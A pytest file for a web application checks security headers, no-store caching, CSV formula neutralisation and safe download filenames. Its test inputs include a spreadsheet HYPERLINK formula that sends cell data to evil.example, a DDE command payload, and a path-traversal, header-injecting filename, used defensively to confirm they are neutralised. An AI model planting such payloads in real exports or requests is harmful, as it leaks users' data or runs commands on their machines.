"""M5, M4, L8, L11, downloads: security headers on every kind of response, no caching of
personal data, formulas neutralised in every CSV export, the API docs from local files, and the
programs page for someone without a profile."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest

from tests.web.conftest import PASSWORD, PROFILE

FORMULAS = ['=HYPERLINK("https://evil.example/?d="&A1,"Click")', "+1+1", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1", "\r=1+1", " =1+1", "\uff1d1+1"]  # fmt: skip


def test_m5_every_response_carries_the_security_headers(client: Any) -> None:
    client.signup("hdr@example.org")
    for url in ("/signin", "/api/me", "/profile", "/static/style.css", "/no-such-page", "/api/no-such",
                "/account/export.json", "/api/applications.csv", "/api/docs"):  # fmt: skip
        r = client.http.get(url)
        h = r.headers
        assert "frame-ancestors 'none'" in h["content-security-policy"], url
        assert "script-src 'self'" in h["content-security-policy"], url
        assert (
            "unsafe-inline" not in h["content-security-policy"].split("script-src")[1].split(";")[0]
        )
        assert h["x-frame-options"] == "DENY", url
        assert h["x-content-type-options"] == "nosniff", url
        assert h["referrer-policy"] == "same-origin", url
        if not url.startswith("/static/"):
            assert h["cache-control"] == "no-store", url


def test_m5_pages_have_no_inline_script_or_style(client: Any) -> None:
    client.signup("inline@example.org")
    for url in (
        "/signin",
        "/signup",
        "/profile",
        "/account",
        "/programs",
        "/applications",
        "/rank-list",
    ):
        text = client.http.get(url).text
        assert "<script>" not in text and " onclick=" not in text and " style=" not in text, url  # noqa: PT018


def test_m4_csv_exports_neutralise_formulas(client: Any, make_client: Any, app: Any) -> None:
    client.signup("csv@example.org")
    client.call("PUT", "/api/profile", json=PROFILE)
    code = next(iter(app.state.workspace.catalog.by_code))
    client.call(
        "PUT", f"/api/applications/{code}", json={"status": "applied", "notes": FORMULAS[0]}
    )
    for n, text in enumerate(FORMULAS):
        client.call(
            "POST",
            "/api/documents",
            json={"title": text.replace("\r", "").replace("\t", "") or f"d{n}"},
        )
        client.call(
            "POST",
            "/api/letters",
            json={"writer": text.replace("\r", "").replace("\t", "") or f"w{n}"},
        )
    token = client.page_token("/account")
    client.http.post(
        "/account/settings", data={"csrf_token": token, "name": FORMULAS[0], "time_zone": "UTC"}
    )
    advisor = make_client()
    advisor.signup("csv-advisor@example.org", role="advisor")
    client.call(
        "POST",
        "/api/shares",
        json={"advisor_email": "csv-advisor@example.org", "password": PASSWORD},
    )
    for who, url in ((client, "/api/applications.csv"), (client, "/applications.csv"),
                     (advisor, "/api/cohort.csv"), (advisor, "/cohort.csv")):  # fmt: skip
        r = who.http.get(url)
        assert r.status_code == 200, url
        cells = [cell for row in csv.reader(io.StringIO(r.text)) for cell in row]
        risky = [
            c for c in cells if c.lstrip(" ")[:1] in ("=", "+", "-", "@", "\t", "\r", "\uff1d")
        ]
        assert not risky, (url, risky)
        assert any(c.startswith("'=HYPERLINK") for c in cells), url


@pytest.mark.parametrize("text", [*FORMULAS, "plain", "-5", "2026-01-01"])
def test_m4_the_neutraliser_cell_by_cell(text: str) -> None:
    from imgpath.services.inputs import neutralise_cell

    out = neutralise_cell(text)
    assert out.lstrip(" ")[:1] not in ("=", "+", "-", "@", "\t", "\r", "\uff1d") or out.startswith(
        "'"
    )
    assert out.removeprefix("'") == text
    assert neutralise_cell(5) == 5


def test_downloads_have_safe_names() -> None:
    from imgpath.web.deps import download

    r = download(b"x", "text/csv", '../../etc/pass"wd\r\nSet-Cookie: a=b.csv')
    value = r.headers["content-disposition"]
    assert value.startswith('attachment; filename="')
    assert "/" not in value and "\r" not in value and value.count('"') == 2  # noqa: PT018


def test_l8_the_api_docs_come_from_local_files(client: Any) -> None:
    page = client.http.get("/api/docs").text
    assert "cdn" not in page.lower() and "https://" not in page  # noqa: PT018
    assert "<script>" not in page  # no inline script
    assert client.http.get("/static/swagger-ui/swagger-ui-bundle.js").status_code == 200
    assert client.http.get("/api/openapi.json").status_code == 200


def test_l11_the_programs_page_works_without_a_profile(client: Any) -> None:
    client.signup("noprofile@example.org")
    assert client.http.get("/programs").status_code == 200
    r = client.call("GET", "/api/programs")
    assert r.status_code == 200
    assert r.json()["total"] > 1000
